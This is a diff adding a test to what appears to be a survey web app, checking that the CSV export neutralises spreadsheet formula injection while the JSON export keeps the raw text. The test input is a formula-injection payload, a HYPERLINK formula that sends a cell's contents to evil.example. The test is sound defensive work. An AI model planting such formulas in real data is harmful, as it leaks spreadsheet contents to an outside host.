@@ -206,3 +206,25 @@ def test_an_editor_loads_a_new_instrument_file_and_a_broken_one_is_refused_with_
     assert response.status_code == 302
     assert Instrument.objects.get(code="scirocco").layout.questions == ("readiness.1",)
     assert login(editor).get("/api/v1/instruments/scirocco/1").json()["title"]["fr"] == "Maturité"
+
+
+def test_spreadsheets_do_not_run_formulas_in_the_survey_export(survey, lead, staff, ipchs):
+    formula = '=HYPERLINK("https://evil.example/?q="&B2,"Our evidence")'
+    for person in (lead, staff):
+        login(person).post(
+            f"/en/practices/surveys/{survey.pk}/answer/",
+            {**form_answers(ipchs, lambda i: "4", formula), "submit": "1"},
+        )
+    client = login(lead)
+    client.post(
+        f"/en/practices/surveys/{survey.pk}/consensus/",
+        {**form_answers(ipchs, lambda i: "3", formula), "finish": "1", "meeting_on": "2026-11-20"},
+    )
+    export = client.get(f"/en/practices/surveys/{survey.pk}/export.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(export)))
+    assert rows[0][7] == "evidence" and len(rows) == 40
+    assert {row[7] for row in rows[1:]} == {"'" + formula}
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    # The JSON export is data for programs: it keeps the text exactly.
+    exported = json.loads(client.get(f"/en/practices/surveys/{survey.pk}/export.json").content)
+    assert exported["answers"]["1.1.1"]["evidence"] == formula
